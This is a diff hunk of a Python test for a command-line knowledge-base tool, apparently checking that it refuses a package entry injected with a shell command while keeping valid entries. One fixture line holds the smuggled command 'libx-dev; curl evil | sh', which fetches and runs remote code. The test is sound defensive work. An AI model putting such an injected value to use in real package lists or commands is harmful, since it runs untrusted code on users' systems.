@@ -61,11 +61,11 @@ def test_add_reports_invalid_units_and_keeps_the_valid_ones(kb, tmp_path, capsys
   advice: This one tries to smuggle a shell command.
   atoms: [{kind: apt_install, packages: ['libx-dev; curl evil | sh']}]
 """)
-    assert main(kb + ["add", str(units)]) == 3             # a refused unit is bad input
+    assert main(kb + ["add", str(units)]) == 3  # a refused unit is bad input
     captured = capsys.readouterr()
     assert "added 1, skipped 0, refused 1" in captured.out
     assert "local-evil" in captured.err and "not a Debian package name" in captured.err
-    assert main(kb + ["add", str(units)]) == 3            # the valid one is now a duplicate
+    assert main(kb + ["add", str(units)]) == 3  # the valid one is now a duplicate
     assert "already in the store" in capsys.readouterr().err
     (tmp_path / "log.txt").write_text("x.c:1:10: fatal error: frob.h: No such file or directory")
     assert main(kb + ["query", str(tmp_path / "log.txt")]) == 0
